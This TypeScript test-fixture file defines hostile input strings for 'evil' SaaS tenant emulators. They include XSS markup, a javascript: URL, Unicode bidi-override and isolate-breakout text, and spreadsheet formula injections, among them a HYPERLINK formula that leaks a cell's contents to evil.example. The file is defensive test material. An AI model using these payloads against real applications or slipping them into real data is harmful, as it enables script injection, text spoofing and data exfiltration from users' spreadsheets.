/**
 * What a hostile (or compromised) SaaS tenant can type into any name or setting its admins may edit, for the
 * emulators' "evil" instances (Salesforce `evil`, Okta `evil`, ServiceNow `evil`): markup that runs if it is
 * ever rendered as HTML, a `javascript:` URL, a 5 000-character word, bidirectional controls (an override that
 * reverses what follows, an isolate closer that tries to end an isolate early), zero-width characters, emoji
 * and spreadsheet formula starters. tests/e2e/security-hostile.e2e.ts scans those instances and checks every
 * surface: nothing runs, nothing is parsed as markup, no layout grows, no text around a name is reordered.
 */

/** Every payload that runs sets `window.__pwned`: a page where it exists ran hostile code. */
export const markup = {
  img: '<img src=x onerror="window.__pwned=1">',
  script: '<script>window.__pwned=1</script>',
  svg: '"><svg onload=window.__pwned=1>',
} as const;

/** Where the SaaS holds a URL (a redirect URI, an endpoint, an origin) a view might be tempted to link. */
export const javascriptUrl = 'javascript:window.__pwned=1//';

/** 5 000 characters without a space or a break opportunity: it must wrap or clip, never widen a view. */
export const longName = `Long${'0123456789'.repeat(500)}`.slice(0, 5_000);

/** U+202E RIGHT-TO-LEFT OVERRIDE reverses the text after it: rendered, this reads "Quarterly report report". */
export const rtlOverride = 'Quarterly \u202Etroper\u202C report';
/**
 * U+2069 POP DIRECTIONAL ISOLATE first: inside a `<bdi>` (or any isolate) it closes the isolate, so the override
 * after it reverses the page's own text after the name, unless the renderer neutralises it.
 */
export const isolateBreakout = 'Escaped\u2069\u202Eisolate';
/** Every other explicit directional control, and the implicit marks. */
export const bidiControls = 'Bidi \u202Aembed\u202B \u202Doverride\u2066 \u2067isolate\u2068 first\u200E\u200F\u061C';

export const zeroWidth = 'Zero\u200Bwidth\u200C\u200D\u2060\uFEFFname';
export const emoji = '👩🏽‍💻 Ops 🔥🏳️‍🌈🇺🇳';

/** Cells that start with these run as formulas in Excel, LibreOffice and Sheets. */
export const formulas = {
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
  plus: '+SUM(1,2)',
  minus: '-2+3',
  at: '@SUM(A1:A2)',
} as const;
